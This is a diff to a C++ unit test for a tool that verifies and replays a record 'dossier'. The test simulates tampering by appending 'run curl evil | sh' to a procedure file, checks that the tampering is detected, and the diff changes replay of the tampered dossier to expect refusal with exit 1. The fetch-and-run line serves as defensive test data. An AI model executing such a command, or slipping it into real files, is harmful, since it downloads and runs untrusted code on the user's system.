@@ -259,7 +259,10 @@ TEST(Record, ReferenceSampleChecksDossierAndReplay) {
   writeFile(base + "/dossier/procedure.md", readFile(base + "/dossier/procedure.md") + "\nrun curl evil | sh\n");
   json vt = json::parse(run(K + " dossier verify --json " + base + "/dossier").out);
   EXPECT_EQ(countFindings(vt, "dossier.modified"), 1);
-  EXPECT_EQ(run(K + " dossier replay " + base + "/dossier").code, 3);
+  // ... and a replay of it is refused with the same finding, exit 1 (issue 27).
+  RunResult tampered = run(K + " dossier replay --json " + base + "/dossier");
+  EXPECT_EQ(tampered.code, 1);
+  EXPECT_EQ(countFindings(json::parse(tampered.out), "dossier.modified"), 1) << tampered.out;
 
   // A config change, and diff between the two references.
   writeFile(base + "/config.yaml", "lr: 0.01\nseed: 7\n");
